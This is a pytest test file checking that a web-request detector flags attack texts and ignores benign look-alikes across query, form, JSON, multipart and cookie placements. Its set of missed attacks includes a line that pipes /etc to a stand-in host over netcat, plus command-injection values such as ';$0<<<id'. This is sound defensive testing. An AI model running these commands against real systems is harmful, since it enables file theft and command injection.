"""The project's own texts (web_texts/): attacks that the rules find, and texts spelled like them that they leave alone.

The attacks were written by class, not taken from a list; most benign texts are code that people talk about, names,
prices and prose with the words of SQL, of a shell and of HTML.
"""

import json
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest

from sakimori_common.contracts import Event
from sakimori_detector.domain.rules import EventRule
from sakimori_detector.offline import OfflineDetector, load_folder

TEXTS = Path(__file__).parent / "web_texts"
RULES = Path(__file__).resolve().parents[3] / "rules"

PLACES: dict[str, Callable[[str], dict[str, str]]] = {
    "query": lambda text: {"url.original": f"/search?q={quote(text, safe='')}&lang=en"},
    "query with plus signs": lambda text: {"url.original": f"/search?q={quote_plus(text)}"},
    "form": lambda text: {"url.original": "/post", "http.request.body.content": f"text={quote_plus(text)}&lang=ja"},
    "JSON": lambda text: {"url.original": "/api", "http.request.body.content": json.dumps({"a": {"text": text}})},
    "several parts": lambda text: {
        "url.original": "/post",
        "http.request.body.content": f'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n{text}\r\n--x--\r\n',
    },
    "cookie": lambda text: {
        "url.original": "/",
        "http.request.headers.cookie": f"lang=ja; last={quote(text, safe='')}; n=1",
    },
}

TAKEN_FOR_ATTACKS = {
    'Can somebody explain what "WHERE 1=1" does?',
    "In boolean algebra 1 OR 0 = 1 and 1 AND 0 = 0",
    "The truth table: 0 or 0 = 0, 0 or 1 = 1, 1 or 1 = 1",
    "ls | wc -l counts the files in a folder",
    "kill $(lsof -t -i:3000)",
    'Use <img src="a.png" onerror="..."> for a fallback image?',
    'the onclick="save()" handler is not called',
    "alert('hi') does not work in node",
    'subprocess.run(["ls"]) vs os.system',
    "and 2 = 2",
    "if (2 = 2)",
    "sh -c runs a command",
    '<link rel="stylesheet" href="a.css">',
}
"""Benign, and written as the attack is: no expression over the text alone can tell."""

NOT_FOUND = {
    ";$0<<<id",
    ";tar cf - /etc | nc x.example 1",
    "cmd=whoami",
    "https:/x.example",
}
"""Attacks that look like something harmless more often than not."""


def texts(kind: str) -> list[tuple[str, str]]:
    found, section = [], ""
    for path in sorted(TEXTS.glob(f"{kind}*.txt")):
        for line in path.read_text("utf-8").splitlines():
            if line.startswith("%% "):
                section = line.removeprefix("%% ")
            elif line:
                found.append((section, line.replace("⏎", "\n")))
    return found


@pytest.fixture(scope="module")
def detector() -> OfflineDetector:
    loaded = load_folder(RULES, "UTC")
    chosen = [rule for rule in loaded.rules if isinstance(rule, EventRule) and rule.path.startswith("web/")]
    return OfflineDetector(chosen, loaded.world)


def met(detector: OfflineDetector, requests: list[dict[str, str]], network: str) -> dict[int, set[str]]:
    events = [
        Event(f"{network}{n}", 1_768_528_800_000_000 + n, "nginx.access", {"source.ip": f"{network}{n:x}", **fields})
        for n, fields in enumerate(requests)
    ]
    rules: dict[int, set[str]] = {}
    for found in detector.feed(events):
        rules.setdefault(int(found.finding.entity.removeprefix(network), 16), set()).add(found.finding.rule_id)
    return rules


@pytest.mark.parametrize("place", PLACES)
def test_texts_spelled_like_attacks_raise_no_alarm(detector: OfflineDetector, place: str) -> None:
    benign = [text for _, text in texts("benign") if text not in TAKEN_FOR_ATTACKS]
    network = f"2001:db8:1:{list(PLACES).index(place)}::"

    alarms = met(detector, [PLACES[place](text) for text in benign], network)

    assert len(benign) > 1000
    assert [(benign[number], rules) for number, rules in alarms.items()] == []


@pytest.mark.parametrize("place", ["query", "form", "JSON", "several parts"])
def test_attacks_are_found_wherever_they_stand(detector: OfflineDetector, place: str) -> None:
    attacks = [text for _, text in texts("attack") if text not in NOT_FOUND]
    line_breaks = {text for section, text in texts("attack") if section == "header_injection" or "%0a" in text.lower()}
    network = f"2001:db8:2:{list(PLACES).index(place)}::"
    requests = [PLACES[place](text) if not is_encoded(text) else as_sent(text, place) for text in attacks]

    found = met(detector, requests, network)

    missed = [text for number, text in enumerate(attacks) if number not in found]
    assert len(attacks) > 1030
    assert [text for text in missed if place == "query" or text not in line_breaks] == []


def is_encoded(text: str) -> bool:
    return "%" in text and " " not in text and "'" not in text and "<" not in text and '"' not in text


def as_sent(text: str, place: str) -> dict[str, str]:
    if place == "query":
        return {"url.original": f"/search?q={text}"}
    if place == "form":
        return {"url.original": "/post", "http.request.body.content": f"q={text}"}
    return PLACES[place](text)


@pytest.mark.parametrize("section", sorted({section for section, _ in texts("attack")}))
def test_an_attack_is_called_by_its_name(detector: OfflineDetector, section: str) -> None:
    attacks = [text for of, text in texts("attack") if of == section and text not in NOT_FOUND]
    requests = [as_sent(text, "query") if is_encoded(text) else PLACES["query"](text) for text in attacks]
    place = sorted({of for of, _ in texts("attack")}).index(section)

    found = met(detector, requests, f"2001:db8:3:{place:x}::")

    named = sum(section in rules for rules in found.values())
    assert named / len(attacks) >= 0.88
